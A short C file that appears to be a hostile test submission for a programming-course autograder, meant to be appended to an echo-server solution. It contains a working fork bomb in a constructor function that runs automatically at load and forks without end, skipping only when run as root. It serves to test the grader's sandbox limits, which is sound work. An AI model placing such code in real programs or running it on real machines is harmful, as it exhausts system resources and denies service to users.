/* Hostile submission: forks without end.
 * Appended to: echoserver.c of stage 1 (the reference's answer).
 * Expect: every echoserver test scores 0 (it never listens), the CUnit tests
 * of rio and sock keep their points, and the bomb stops at the sandbox's
 * RLIMIT_NPROC; the grader kills it all and leaves nothing behind. */
#include <unistd.h>

__attribute__((constructor)) static void hostile_fork_bomb(void)
{
    if (getuid() == 0)          /* outside the grader's sandbox: do no harm */
        return;
    for (;;)
        (void)fork();
}
